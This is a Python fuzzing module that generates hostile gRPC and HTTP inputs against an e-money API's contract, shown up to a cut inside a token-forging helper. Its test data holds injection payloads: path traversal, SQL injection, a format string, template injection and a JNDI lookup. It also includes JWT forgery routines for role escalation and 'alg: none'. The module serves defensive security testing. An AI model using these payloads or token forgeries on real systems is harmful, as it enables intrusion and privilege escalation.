"""Hostile input, derived from the contract: hypothesis strategies for the fuzzers.

Everything is read from the descriptor set `make proto` writes (generated/emoney.binpb): every method of
every `emoney.*` service, its request message (fields, types, nested messages) and its google.api.http
route. Nothing here lists methods or fields by hand, so a new RPC is fuzzed as soon as it is generated.

- `request_messages`: request messages with random field values (extreme and negative integers; empty,
  huge, unicode and control-character strings; random bytes; Timestamps out of range; resource names
  and UUIDs, some of them naming real resources of the fuzz world so calls get past the lookups);
- `malformed_payloads`: bytes that are not (or barely) a valid message: noise, truncations, flipped
  bytes, wrong wire types, lying length prefixes, strings that are not UTF-8, deep group nesting;
- `grpc_metadata` / `authorization_values`: what a native client can put in its headers;
- `json_bodies`, `query_strings`, `http_headers`, `route_paths`, `random_paths`: the JSON face.

`FuzzWorld` is a small set of real resources (a funded customer, a shop with a terminal, payments,
payment codes, a spare tenant) that the fuzzers create for themselves in the demo tenant, and the
tokens of every role. Calls that would end those resources for the rest of the run (disable the
terminal, freeze or close the accounts, suspend a tenant) are pointed at decoys instead.
"""

from __future__ import annotations

import base64
import json
import string
import time
import urllib.parse
import uuid
from collections import Counter
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path
from typing import Any, Callable

import grpc
from google.api import annotations_pb2  # noqa: F401  (registers the google.api.http option before parsing)
from google.protobuf import descriptor_pb2, descriptor_pool, json_format, message_factory
from google.protobuf.descriptor import Descriptor, FieldDescriptor
from google.protobuf.message import Message
from grpc_health.v1 import health_pb2, health_pb2_grpc
from hypothesis import strategies as st

from emoney.admin.v1 import admin_pb2, admin_pb2_grpc
from tests.fixtures.identity import bearer, login_as

ROOT = Path(__file__).resolve().parents[2]
DESCRIPTOR_SET = ROOT / "generated" / "emoney.binpb"

INT32 = (-(2**31), 2**31 - 1)
INT64 = (-(2**63), 2**63 - 1)
UINT32 = (0, 2**32 - 1)
UINT64 = (0, 2**64 - 1)
# google.protobuf.Timestamp's valid range (0001-01-01 .. 9999-12-31), and one step outside it.
TIMESTAMP_MIN_S = -62_135_596_800
TIMESTAMP_MAX_S = 253_402_300_799
MAX_TRANSFER_MINOR = 100_000_000  # domain/ledger_rules.py; a boundary worth hitting
PAYMENT_CODE_ALPHABET = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"

# Roles a fuzzed call may carry. `none` sends no authorization; `garbage` a malformed one; `forged` a
# structurally valid token of ours whose claims or signature were tampered with (must never be accepted).
USER_ROLES = ("customer", "merchant", "operator", "tenant_admin", "platform_admin")
ROLES = ("none", "garbage", "forged", *USER_ROLES, "terminal")
# Methods that would end a resource of the fuzz world for the rest of the run, and the field naming it.
DESTRUCTIVE = {
    "DisableTerminal": "name",
    "FreezeAccount": "name",
    "CloseAccount": "name",
    "SuspendTenant": "name",
}


# -- the contract ------------------------------------------------------------------------------


@dataclass(frozen=True)
class HttpRule:
    verb: str  # get, post, put, patch, delete
    template: str  # /v1/{name=accounts/*}:freeze
    body: str  # "*", "" or a field name

    def variables(self) -> list[tuple[str, str]]:
        """(field, pattern) for each `{field=pattern}` (or `{field}`) in the template."""
        found = []
        rest = self.template
        while "{" in rest:
            start = rest.index("{")
            end = rest.index("}", start)
            inner = rest[start + 1 : end]
            name, _, pattern = inner.partition("=")
            found.append((name, pattern or "*"))
            rest = rest[end + 1 :]
        return found


@dataclass(frozen=True)
class Method:
    path: str  # /emoney.auth.v1.AuthService/Login
    service: str  # emoney.auth.v1.AuthService
    name: str  # Login
    input: Descriptor
    output: Descriptor
    server_streaming: bool
    client_streaming: bool
    http: HttpRule | None

    @property
    def request_class(self) -> type[Message]:
        return message_factory.GetMessageClass(self.input)

    @property
    def response_class(self) -> type[Message]:
        return message_factory.GetMessageClass(self.output)

    def __repr__(self) -> str:  # short ids in pytest and hypothesis output
        return self.path


@lru_cache(maxsize=1)
def contract() -> tuple[descriptor_pool.DescriptorPool, tuple[Method, ...]]:
    files = descriptor_pb2.FileDescriptorSet()
    files.ParseFromString(DESCRIPTOR_SET.read_bytes())
    pool = descriptor_pool.DescriptorPool()
    for file in files.file:
        pool.Add(file)
    methods = []
    for file in files.file:
        if not file.package.startswith("emoney."):
            continue
        for service in file.service:
            full_service = f"{file.package}.{service.name}"
            for method in service.method:
                rule = None
                if method.options.HasExtension(annotations_pb2.http):
                    http = method.options.Extensions[annotations_pb2.http]
                    verb = http.WhichOneof("pattern")
                    if verb in ("get", "post", "put", "patch", "delete"):
                        rule = HttpRule(verb=verb, template=getattr(http, verb), body=http.body)
                methods.append(
                    Method(
                        path=f"/{full_service}/{method.name}",
                        service=full_service,
                        name=method.name,
                        input=pool.FindMessageTypeByName(method.input_type.lstrip(".")),
                        output=pool.FindMessageTypeByName(method.output_type.lstrip(".")),
                        server_streaming=method.server_streaming,
                        client_streaming=method.client_streaming,
                        http=rule,
                    )
                )
    return pool, tuple(methods)


def methods() -> tuple[Method, ...]:
    return contract()[1]


def method_id(method: Method) -> str:
    return f"{method.service.rsplit('.', 1)[-1]}.{method.name}"


# -- the fuzz world ----------------------------------------------------------------------------


@dataclass
class FuzzWorld:
    """Real resources for fuzzed calls to name, and a token for every role."""

    tokens: dict[str, str]  # role → access token
    names: dict[str, list[str]]  # collection (accounts, users, ...) → real resource names
    emails: list[str]
    codes: list[str]  # unused payment codes of the fuzz customer
    client_ids: list[str]
    refresh_tokens: list[str]  # throwaway sessions' refresh tokens
    tenant_id_hex: str
    decoys: dict[str, str] = field(default_factory=dict)  # protected name → what destructive calls get instead

    def all_names(self) -> list[str]:
        return [name for names in self.names.values() for name in names]

    def protect(self, method_name: str, message: Message) -> Message:
        """Point destructive calls at decoys instead of the resources the rest of the run needs."""
        field_name = DESTRUCTIVE.get(method_name)
        if field_name is not None:
            decoy = self.decoys.get(_normal(getattr(message, field_name)))
            if decoy is not None:
                setattr(message, field_name, decoy)
        return message

    def protect_payload(self, method: "Method", payload: bytes) -> bytes:
        """`protect` for raw bytes: only when they decode and name a protected resource are they changed."""
        try:
            message = method.request_class.FromString(payload)
        except Exception:  # most malformed payloads do not decode: nothing to protect
            return payload
        before = message.SerializeToString()
        self.protect(method.name, message)
        after = message.SerializeToString()
        return payload if after == before else after

    def reaches_protected(self, method_name: str, text: str) -> bool:
        """True when a destructive call's path or body (decoded) mentions a protected resource."""
        if method_name not in DESTRUCTIVE:
            return False
        decoded = _fully_unquote(text).lower()
        return any(_last_segment(name) in decoded for name in self.decoys)


def _last_segment(name: str) -> str:
    return name.rsplit("/", 1)[-1]


def _fully_unquote(text: str) -> str:
    for _ in range(4):
        unquoted = urllib.parse.unquote(text)
        if unquoted == text:
            break
        text = unquoted
    return text


# -- scalar values -----------------------------------------------------------------------------

CONTROL_CHARACTERS = "".join(chr(code) for code in range(32)) + "\x7f\x85\u2028\u2029"
SPECIAL_STRINGS = (
    "", " ", "\x00", "a\x00b", "\t\n\r", "null", "None", "undefined", "true", "0", "-1", "1e999", "NaN",
    "../../etc/passwd", "' OR '1'='1' --", "\"; drop table accounts; --", "%s%s%n", "{{7*7}}", "${jndi:ldap://x/a}",
    "\u202e\u202d", "\ufeff", "\ufffd", "\U0001f4b8", "Z\u0351\u0351\u0351", "\u0130", "ß", "tenants/", "accounts/",
    "payments/", "users/", "terminals/", "/", "//", "*", "**", "accounts/*", "tenants/demo-city/..", "EUR", "eur",
    "\\", "%00", "%", "+", "a@b.c", "@", "a@", "@b.c",
)
HUGE_PIECES = ("a", "é", "\U0001d54f", "\x00", " ", "%", "/", "\u202e", "9")
HUGE_COUNTS = (255, 256, 257, 1_000, 4_097, 65_536, 100_000)


def huge_strings() -> st.SearchStrategy[str]:
    """Long strings, built by repetition (hypothesis is slow to generate 100k characters one by one)."""
    return st.builds(lambda piece, count: piece * count, st.sampled_from(HUGE_PIECES), st.sampled_from(HUGE_COUNTS))


def text_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(max_size=40),  # any unicode but surrogates (protobuf strings are UTF-8)
        st.text(alphabet=CONTROL_CHARACTERS + "ab", max_size=20),
        st.sampled_from(SPECIAL_STRINGS),
        huge_strings(),
    )


def integers_in(bounds: tuple[int, int]) -> st.SearchStrategy[int]:
    low, high = bounds
    interesting = [
        0, 1, -1, 2, 9, 10, 59, 60, 100, 101, 120, 599, 600, 601, 3_600, 604_800, 604_801, 10**6, 10**9,
        MAX_TRANSFER_MINOR, MAX_TRANSFER_MINOR + 1, 2**31 - 1, -(2**31), 2**53, 2**63 - 1, -(2**63), low, high,
    ]
    return st.one_of(
        st.sampled_from(sorted({value for value in interesting if low <= value <= high})),
        st.integers(max(low, -1_000), min(high, 100_000)),
        st.integers(low, high),
    )


def uuids() -> st.SearchStrategy[str]:
    return st.one_of(
        st.uuids().map(str),
        st.sampled_from(["00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff"]),
        st.uuids().map(lambda value: value.hex),
        st.uuids().map(lambda value: str(value).upper()),
        st.uuids().map(lambda value: "{" + str(value) + "}"),
        st.uuids().map(lambda value: f"urn:uuid:{value}"),
    )


COLLECTIONS = ("accounts", "users", "payments", "terminals", "tenants")
# Request fields that hold a resource name, and of which collection (when the route does not say).
NAME_FIELDS = {
    "account": ("accounts",),
    "from_account": ("accounts",),
    "to_account": ("accounts",),
    "owner": ("users",),
    "merchant": ("users",),
    "payment": ("payments",),
    "terminal": ("terminals",),
    "tenant": ("tenants",),
}


def resource_names(world: FuzzWorld | None, collections: tuple[str, ...]) -> st.SearchStrategy[str]:
    options = [
        st.builds(lambda collection, value: f"{collection}/{value}", st.sampled_from(collections), uuids()),
        st.builds(lambda collection, value: f"{collection}/{value}", st.sampled_from(COLLECTIONS), uuids()),
        st.builds(lambda collection, value: f"{collection}/{value}", st.sampled_from(collections), text_values()),
        st.builds(
            lambda slug: f"tenants/{slug}",
            st.one_of(st.sampled_from(["demo-city", "platform", "no-such-city", "a", "-ab", "ab-", "a--b"]),
                      st.text(alphabet=string.ascii_lowercase + string.digits + "-", min_size=1, max_size=70)),
        ),
        uuids(),
        text_values(),
    ]
    if world is not None:
        known = [name for collection in collections for name in world.names.get(collection, [])]
        if known:
            options.insert(0, st.sampled_from(known))
            # a real name with something appended or changed: the same row must not be found
            options.append(st.builds(lambda name, tail: name + tail, st.sampled_from(known), st.sampled_from(["/", "x", " ", "\x00", "/..", "0"])))
            options.append(st.sampled_from(known).map(str.upper))
    return st.one_of(*options)


def emails(world: FuzzWorld | None) -> st.SearchStrategy[str]:
    local = st.text(alphabet=string.ascii_letters + string.digits + ".+-_", min_size=1, max_size=20)
    options = [
        st.builds(lambda name, tag: f"fuzz-{name}-{tag}@example.org", local, st.integers(0, 10**9)),
        st.builds(lambda name: f"{name}@example.org", huge_strings()),
        st.builds(lambda name: f"a@{name}.org", huge_strings()),
        text_values(),
    ]
    if world is not None and world.emails:
        options.insert(0, st.sampled_from(world.emails))
        options.append(st.sampled_from(world.emails).map(lambda email: f"  {email.upper()}  "))
    return st.one_of(*options)


def currencies() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(["EUR", "EUR", "USD", "XXX", "eur", "EU", "EURO", "", "E\u00dcR", "\u0395UR", "123"]),
        st.text(alphabet=string.ascii_uppercase, min_size=3, max_size=3),
        text_values(),
    )


def _json_containers(children: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(st.lists(children, max_size=4), st.dictionaries(st.text(max_size=12), children, max_size=4))


def page_tokens() -> st.SearchStrategy[str]:
    def encode(value: Any) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    payloads = st.one_of(
        st.fixed_dictionaries({"created": st.sampled_from(["2020-01-01T00:00:00+00:00", "0001-01-01", "9999-12-31T23:59:59", "x", ""]),
                               "id": uuids(), }),
        st.fixed_dictionaries({"created": text_values(), "entry": st.one_of(st.integers().map(str), text_values())}),
        st.fixed_dictionaries({"after": text_values()}),
        st.recursive(st.one_of(st.none(), st.integers(), st.text(max_size=10)), _json_containers, max_leaves=6),
    )
    return st.one_of(payloads.map(encode), text_values(), st.binary(max_size=64).map(lambda raw: base64.b64encode(raw).decode()))


def request_ids() -> st.SearchStrategy[str]:
    return st.one_of(uuids(), text_values(), st.sampled_from(["fuzz-replayed-request-id", "x" * 64, "x" * 65]))


def payment_codes(world: FuzzWorld | None) -> st.SearchStrategy[str]:
    options = [
        st.text(alphabet=PAYMENT_CODE_ALPHABET, min_size=16, max_size=16),
        st.text(alphabet=PAYMENT_CODE_ALPHABET.lower() + " ", min_size=14, max_size=20),
        text_values(),
    ]
    if world is not None and world.codes:
        options.insert(0, st.sampled_from(world.codes))
        options.append(st.sampled_from(world.codes).map(lambda code: f" {code.lower()} "))
    return st.one_of(*options)


def refresh_token_values(world: FuzzWorld | None) -> st.SearchStrategy[str]:
    tenant = world.tenant_id_hex if world is not None else uuid.uuid4().hex
    options = [
        st.builds(lambda token_id, secret: f"{tenant}.{token_id}.{secret}", st.uuids().map(lambda value: value.hex), st.text(max_size=50)),
        st.builds(lambda a, b, c: f"{a}.{b}.{c}", text_values(), text_values(), text_values()),
        text_values(),
    ]
    if world is not None and world.refresh_tokens:
        options.insert(0, st.sampled_from(world.refresh_tokens))
    return st.one_of(*options)


def string_for(field_name: str, world: FuzzWorld | None, collections: tuple[str, ...] | None) -> st.SearchStrategy[str]:
    """Strings shaped for what the field holds (often valid, so calls get deeper), mixed with hostile ones."""
    if collections is not None or field_name in NAME_FIELDS or field_name == "name":
        shaped = resource_names(world, collections or NAME_FIELDS.get(field_name, COLLECTIONS))
    elif "email" in field_name:
        shaped = emails(world)
    elif "currency" in field_name:
        shaped = currencies()
    elif field_name == "page_token":
        shaped = page_tokens()
    elif field_name == "request_id":
        shaped = request_ids()
    elif field_name == "code":
        shaped = payment_codes(world)
    elif field_name == "refresh_token":
        shaped = refresh_token_values(world)
    elif field_name == "client_id" and world is not None and world.client_ids:
        shaped = st.one_of(st.sampled_from(world.client_ids), st.text(alphabet=string.ascii_lowercase + "_", max_size=40))
    elif "password" in field_name or field_name == "client_secret":
        shaped = st.one_of(st.text(min_size=10, max_size=30), st.sampled_from(["password123", "a" * 10, "x" * 128, "x" * 129]))
    elif field_name == "slug":
        shaped = st.text(alphabet=string.ascii_lowercase + string.digits + "-", min_size=1, max_size=70)
    else:
        shaped = st.text(min_size=1, max_size=30)
    return st.one_of(shaped, shaped, text_values())


# -- messages ----------------------------------------------------------------------------------


def timestamp_fields() -> st.SearchStrategy[dict[str, int]]:
    now = int(time.time())
    seconds = st.one_of(
        st.sampled_from([0, -1, 1, now, now - 86_400, now + 86_400, TIMESTAMP_MIN_S, TIMESTAMP_MIN_S - 1, TIMESTAMP_MAX_S,
                         TIMESTAMP_MAX_S + 1, INT64[0], INT64[1]]),
        st.integers(TIMESTAMP_MIN_S, TIMESTAMP_MAX_S),
        st.integers(*INT64),
    )
    nanos = st.one_of(st.sampled_from([0, 1, 999_999_999, 10**9, -1, INT32[0], INT32[1]]), st.integers(*INT32))
    return st.fixed_dictionaries({}, optional={"seconds": seconds, "nanos": nanos})


def duration_fields() -> st.SearchStrategy[dict[str, int]]:
    return st.fixed_dictionaries(
        {}, optional={"seconds": integers_in(INT64), "nanos": integers_in(INT32)}
    )


def _scalar(field_descriptor: FieldDescriptor, world: FuzzWorld | None, collections: tuple[str, ...] | None) -> st.SearchStrategy[Any]:
    kind = field_descriptor.type
    if kind == FieldDescriptor.TYPE_STRING:
        return string_for(field_descriptor.name, world, collections)
    if kind == FieldDescriptor.TYPE_BYTES:
        return st.one_of(st.binary(max_size=64), st.sampled_from([b"", b"\x00" * 1000, b"\xff" * 65_536]))
    if kind == FieldDescriptor.TYPE_BOOL:
        return st.booleans()
    if kind in (FieldDescriptor.TYPE_INT32, FieldDescriptor.TYPE_SINT32, FieldDescriptor.TYPE_SFIXED32):
        return integers_in(INT32)
    if kind in (FieldDescriptor.TYPE_INT64, FieldDescriptor.TYPE_SINT64, FieldDescriptor.TYPE_SFIXED64):
        return integers_in(INT64)
    if kind in (FieldDescriptor.TYPE_UINT32, FieldDescriptor.TYPE_FIXED32):
        return integers_in(UINT32)
    if kind in (FieldDescriptor.TYPE_UINT64, FieldDescriptor.TYPE_FIXED64):
        return integers_in(UINT64)
    if kind == FieldDescriptor.TYPE_DOUBLE:
        return st.floats(allow_nan=True, allow_infinity=True)
    if kind == FieldDescriptor.TYPE_FLOAT:
        return st.floats(allow_nan=True, allow_infinity=True, width=32)
    if kind == FieldDescriptor.TYPE_ENUM:
        numbers = [value.number for value in field_descriptor.enum_type.values]
        if field_descriptor.enum_type.is_closed:
            return st.sampled_from(numbers)
        return st.one_of(st.sampled_from(numbers), integers_in(INT32))
    raise AssertionError(f"unhandled field type {kind} of {field_descriptor.full_name}")


def _value(field_descriptor: FieldDescriptor, world: FuzzWorld | None, collections, depth: int) -> st.SearchStrategy[Any]:
    if field_descriptor.message_type is not None:
        return message_fields(field_descriptor.message_type, world, {}, depth + 1)
    return _scalar(field_descriptor, world, collections)


def message_fields(
    descriptor: Descriptor, world: FuzzWorld | None, route_collections: dict[str, tuple[str, ...]], depth: int = 0
) -> st.SearchStrategy[dict[str, Any]]:
    """A dict field name → value (nested messages as dicts, repeated fields as lists), any subset of fields set."""
    if descriptor.full_name == "google.protobuf.Timestamp":
        return timestamp_fields()
    if descriptor.full_name == "google.protobuf.Duration":
        return duration_fields()
    if depth > 4:
        return st.just({})
    optional: dict[str, st.SearchStrategy[Any]] = {}
    for field_descriptor in descriptor.fields:
        collections = route_collections.get(field_descriptor.name)
        if field_descriptor.message_type is not None and field_descriptor.message_type.GetOptions().map_entry:
            key_field = field_descriptor.message_type.fields_by_name["key"]
            value_field = field_descriptor.message_type.fields_by_name["value"]
            optional[field_descriptor.name] = st.dictionaries(
                _scalar(key_field, world, None), _value(value_field, world, None, depth), max_size=5
            )
        elif field_descriptor.is_repeated:
            element = _value(field_descriptor, world, collections, depth)
            optional[field_descriptor.name] = st.one_of(
                st.lists(element, max_size=5),
                st.builds(lambda value, count: [value] * count, element, st.sampled_from([100, 10_000])),
            )
        else:
            optional[field_descriptor.name] = _value(field_descriptor, world, collections, depth)
    return st.fixed_dictionaries({}, optional=optional)


def fill(message: Message, values: dict[str, Any]) -> Message:
    descriptor = message.DESCRIPTOR
    for name, value in values.items():
        field_descriptor = descriptor.fields_by_name[name]
        if field_descriptor.message_type is not None and field_descriptor.message_type.GetOptions().map_entry:
            target = getattr(message, name)
            for key, item in value.items():
                if isinstance(item, dict):
                    fill(target[key], item)
                else:
                    target[key] = item
        elif field_descriptor.is_repeated:
            container = getattr(message, name)
            for item in value:
                if field_descriptor.message_type is not None:
                    fill(container.add(), item)
                else:
                    container.append(item)
        elif field_descriptor.message_type is not None:
            submessage = getattr(message, name)
            submessage.SetInParent()
            fill(submessage, value)
        else:
            setattr(message, name, value)
    return message


def route_collections(method: Method) -> dict[str, tuple[str, ...]]:
    """`{name=accounts/*}` in the route says the field holds an `accounts/...` name."""
    if method.http is None:
        return {}
    return {
        field_name: (pattern.split("/", 1)[0],)
        for field_name, pattern in method.http.variables()
        if "/" in pattern
    }


_CACHE: dict[tuple[str, str, int], st.SearchStrategy[Any]] = {}


def cached(kind: str, method: Method, world: FuzzWorld | None, build: Callable[[], st.SearchStrategy[Any]]) -> st.SearchStrategy[Any]:
    """Strategies are built once per method and world (building them for every example is slow)."""
    key = (kind, method.path, id(world))
    if key not in _CACHE:
        _CACHE[key] = build()
    return _CACHE[key]


def plausible_enum(field_descriptor: FieldDescriptor) -> st.SearchStrategy[int]:
    """Kinds, roles and statuses the contract knows: a customer or merchant kind or role (what a caller may
    open or grant), a status filter that is often unset (every status)."""
    values = {value.name: value.number for value in field_descriptor.enum_type.values}
    if field_descriptor.name in ("kind", "role", "roles"):
        return st.sampled_from([number for name, number in values.items() if name.endswith(("_CUSTOMER", "_MERCHANT"))])
    if field_descriptor.name == "status":
        return st.sampled_from([0, *(number for name, number in values.items() if name.endswith(("_ACTIVE", "_COMPLETED", "_AUTHORIZED")))])
    return st.sampled_from([number for number in values.values() if number != 0])


def plausible_value(field_descriptor: FieldDescriptor, world: FuzzWorld | None, collections) -> st.SearchStrategy[Any]:
    """A value that could well be right (a real resource, a sane amount, EUR), so a call gets past
    validation and lookups into the code that moves money."""
    name = field_descriptor.name
    message_type = field_descriptor.message_type
    if message_type is not None:
        if message_type.full_name == "google.protobuf.Timestamp":
            now = int(time.time())
            return st.fixed_dictionaries({"seconds": st.integers(now - 30 * 86_400, now + 86_400), "nanos": st.integers(0, 999_999_999)})
        return message_fields(message_type, world, {}, 1)
    if field_descriptor.type == FieldDescriptor.TYPE_STRING:
        if collections is not None or name in NAME_FIELDS or name == "name":
            wanted = collections or NAME_FIELDS.get(name, COLLECTIONS)
            known = [known_name for collection in wanted for known_name in (world.names.get(collection, []) if world else [])]
            fresh = st.builds(lambda collection, value: f"{collection}/{value}", st.sampled_from(wanted), st.uuids().map(str))
            return st.one_of(st.sampled_from(known), st.sampled_from(known), st.sampled_from(known), fresh) if known else fresh
        if "email" in name:
            return emails(world)
        if "currency" in name:
            return st.just("EUR")
        if name == "request_id":
            return st.uuids().map(str)
        if name == "page_token":
            return st.just("")
        if name == "code":
            return payment_codes(world)
        if name == "refresh_token":
            return refresh_token_values(world)
        if name == "client_id" and world is not None:
            return st.sampled_from(world.client_ids)
        if "password" in name or name == "client_secret":
            return st.builds(lambda number: f"correct horse battery {number}", st.integers(0, 10**6))
        if name == "slug":
            return st.builds(lambda number: f"fuzz-{number}", st.integers(0, 10**9))
        if "name" in name:
            return st.sampled_from(["Fuzz Person", "Zoë's Café", "Till 2"])
        return st.text(min_size=1, max_size=20)
    if field_descriptor.type == FieldDescriptor.TYPE_ENUM:
        return plausible_enum(field_descriptor)
    if field_descriptor.type == FieldDescriptor.TYPE_BOOL:
        return st.booleans()
    if field_descriptor.type in (FieldDescriptor.TYPE_STRING, FieldDescriptor.TYPE_BYTES):
        return st.binary(max_size=16)
    if "amount" in name:
        return st.integers(1, 5_000)
    if name == "ttl_seconds":
        return st.sampled_from([0, 60, 120, 600, 3_600])
    if name == "page_size":
        return st.integers(0, 200)
    return st.integers(0, 100)


def plausible_fields(descriptor: Descriptor, world: FuzzWorld | None, route_collections: dict[str, tuple[str, ...]]) -> st.SearchStrategy[dict[str, Any]]:
    values = {}
    for field_descriptor in descriptor.fields:
        value = plausible_value(field_descriptor, world, route_collections.get(field_descriptor.name))
        values[field_descriptor.name] = st.lists(value, min_size=1, max_size=2) if field_descriptor.is_repeated else value
    return st.fixed_dictionaries(values)


def request_messages(method: Method, world: FuzzWorld | None) -> st.SearchStrategy[Message]:
    """A third hostile throughout, a third plausible, a third plausible but for one hostile field."""

    def build() -> st.SearchStrategy[Message]:
        request_class = method.request_class
        collections = route_collections(method)
        hostile = message_fields(method.input, world, collections)
        plausible = plausible_fields(method.input, world, collections)
        if method.input.fields:
            one_bad = st.tuples(plausible, hostile, st.sampled_from([f.name for f in method.input.fields])).map(
                lambda parts: {**parts[0], parts[2]: parts[1][parts[2]]} if parts[2] in parts[1] else {k: v for k, v in parts[0].items() if k != parts[2]}
            )
        else:
            one_bad = hostile
        return st.one_of(hostile, plausible, one_bad).map(lambda values: fill(request_class(), values))

    return cached("request", method, world, build)


# -- malformed wire format ---------------------------------------------------------------------


def varint(value: int) -> bytes:
    value &= (1 << 64) - 1
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def tag(field_number: int, wire_type: int) -> bytes:
    return varint((field_number << 3) | wire_type)


def malformed_payloads(valid: st.SearchStrategy[bytes]) -> st.SearchStrategy[bytes]:
    """Bytes a protobuf parser must refuse (or, for some, accept as a message with unknown fields)."""
    field_numbers = st.integers(1, 8)
    bad_utf8 = st.sampled_from([b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"a\x80b", b"\xf8\x88\x80\x80\x80", b"\xfe\xfe"])
    return st.one_of(
        st.binary(min_size=1, max_size=300),
        valid.filter(lambda raw: len(raw) > 1).flatmap(lambda raw: st.integers(1, len(raw) - 1).map(lambda cut: raw[:cut])),
        st.tuples(valid, st.binary(min_size=1, max_size=32)).map(lambda pair: pair[0] + pair[1]),
        st.tuples(valid.filter(bool), st.integers(0, 2**16), st.integers(1, 255)).map(
            lambda triple: _flip(triple[0], triple[1], triple[2])
        ),
        # a string field whose bytes are not UTF-8
        st.tuples(field_numbers, bad_utf8).map(lambda pair: tag(pair[0], 2) + varint(len(pair[1])) + pair[1]),
        # a known field number with the wrong wire type (varint where a string is, ...)
        st.tuples(field_numbers, st.sampled_from([0, 1, 2, 5]), st.binary(min_size=0, max_size=12)).map(
            lambda triple: tag(triple[0], triple[1]) + triple[2]
        ),
        # a length prefix far longer than the payload
        st.tuples(field_numbers, st.sampled_from([2**31 - 1, 2**32, 2**63, 1_000_000, 100])).map(
            lambda pair: tag(pair[0], 2) + varint(pair[1]) + b"abc"
        ),
        # a 10-byte varint that overflows, a varint that never ends
        st.sampled_from([b"\x08" + b"\xff" * 10 + b"\x01", b"\x08" + b"\x80" * 20, b"\x08"]),
        # deep nesting of (deprecated) groups, and a group that never ends
        st.integers(1, 2_000).map(lambda depth: tag(1, 3) * depth + tag(1, 4) * depth),
        st.integers(1, 200).map(lambda depth: tag(1, 3) * depth),
        # field number 0 and field numbers beyond the maximum
        st.sampled_from([b"\x00", b"\x02\x00", tag(2**29 - 1, 0) + b"\x01", varint((2**29) << 3) + b"\x01", tag(19_000, 0) + b"\x01"]),
        # unknown fields of every wire type (decodes fine: they are kept as unknown fields)
        st.lists(st.tuples(st.integers(100, 10_000), st.binary(max_size=20)), min_size=1, max_size=5).map(
            lambda items: b"".join(tag(number, 2) + varint(len(raw)) + raw for number, raw in items)
        ),
    )


def _flip(raw: bytes, position: int, mask: int) -> bytes:
    index = position % len(raw)
    return raw[:index] + bytes([raw[index] ^ mask]) + raw[index + 1 :]


# -- native metadata ---------------------------------------------------------------------------

METADATA_KEY_ALPHABET = string.ascii_lowercase + string.digits + "-_."
# Set by gRPC itself, or by HTTP/2: a client cannot (or must not) send its own.
RESERVED_KEYS = frozenset({"content-type", "te", "user-agent", "host", "grpc-timeout", "grpc-encoding", "grpc-accept-encoding",
                           "grpc-message", "grpc-status", "grpc-status-details-bin", "grpc-previous-rpc-attempts",
                           "grpc-retry-pushback-ms", "grpc-tags-bin", "grpc-trace-bin", "connection", "transfer-encoding",
                           "keep-alive", "upgrade", "proxy-connection", "authorization"})
PRINTABLE_ASCII = "".join(chr(code) for code in range(0x20, 0x7F))
# Envoy refuses a request whose headers exceed 32 KiB or 100 entries with a stream reset (there is no
# status to answer with at that point): the random metadata stays below, the servers' own limit (16 KiB)
# sits inside this range. Oversized headers have their own tests.
METADATA_BUDGET_BYTES = 24 * 1024
METADATA_MAX_ENTRIES = 60


def metadata_keys() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(["x-request-id", "x-forwarded-for", "x-real-ip", "x-envoy-original-path", "x-envoy-original-method",
                         "x-envoy-internal", "x-envoy-expected-rq-timeout-ms", "x-envoy-upstream-rq-timeout-ms",
                         "x-forwarded-proto", "forwarded", "cookie", "origin", "idempotency-key", "x-tenant-id", "x-user-id"]),
        st.text(alphabet=METADATA_KEY_ALPHABET, min_size=1, max_size=40),
    ).filter(lambda key: key not in RESERVED_KEYS and not key.startswith("grpc-") and not key.endswith("-bin"))


def metadata_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(alphabet=PRINTABLE_ASCII, max_size=64).map(str.strip),
        st.sampled_from(["1.2.3.4", "127.0.0.1", "::1", "1.2.3.4, 5.6.7.8", "not-an-ip", "999.999.999.999",
                         "00000000-0000-0000-0000-000000000000", "x" * 129, "a" * 7, "-1", "0"]),
        st.builds(lambda piece, count: piece * count, st.sampled_from(["a", "%", "~", "9"]), st.sampled_from([1_000, 4_000, 8_000, 15_000])),
    )


def grpc_metadata() -> st.SearchStrategy[list[tuple[str, str | bytes]]]:
    text_entry = st.tuples(metadata_keys(), metadata_values())
    binary_entry = st.tuples(
        st.text(alphabet=METADATA_KEY_ALPHABET, min_size=1, max_size=20).map(lambda key: f"{key}-bin"),
        st.binary(max_size=512),
    )
    entries = st.one_of(
        st.lists(st.one_of(text_entry, binary_entry), max_size=8),
        st.lists(st.tuples(st.text(alphabet=METADATA_KEY_ALPHABET, min_size=1, max_size=12), st.just("v")), max_size=METADATA_MAX_ENTRIES),
    )
    return entries.map(_within_budget)


def _within_budget(entries: list[tuple[str, Any]]) -> list[tuple[str, Any]]:
    kept, used = [], 0
    for key, value in entries[:METADATA_MAX_ENTRIES]:
        size = len(key) + len(value) * (4 if isinstance(value, bytes) else 1) // (3 if isinstance(value, bytes) else 1) + 32
        if used + size > METADATA_BUDGET_BYTES:
            break
        kept.append((key, value))
        used += size
    return kept


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def forged_tokens(real_tokens: list[str]) -> st.SearchStrategy[str]:
    """Tokens that look like ours but must be refused: tampered claims or signature, `alg: none`, HMAC."""

    def escalate(token: str) -> str:
        header, payload, signature = token.split(".")
        claims = json.loads(_unb64(payload))
        claims["roles"] = ["platform_admin", "tenant_admin", "operator"]
        claims["tenant_id"] = str(uuid.UUID(int=0))
        return f"{header}.{_b64(json.dumps(claims).encode())}.{signature}"

    def alg_none(token: str) -> str:
        _, payload, _ = token.split(".")
        return f"{_b64(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{payload}."

    def hmac_confusion(token: str) -> str:
        header, payload, signature = token.split(".")
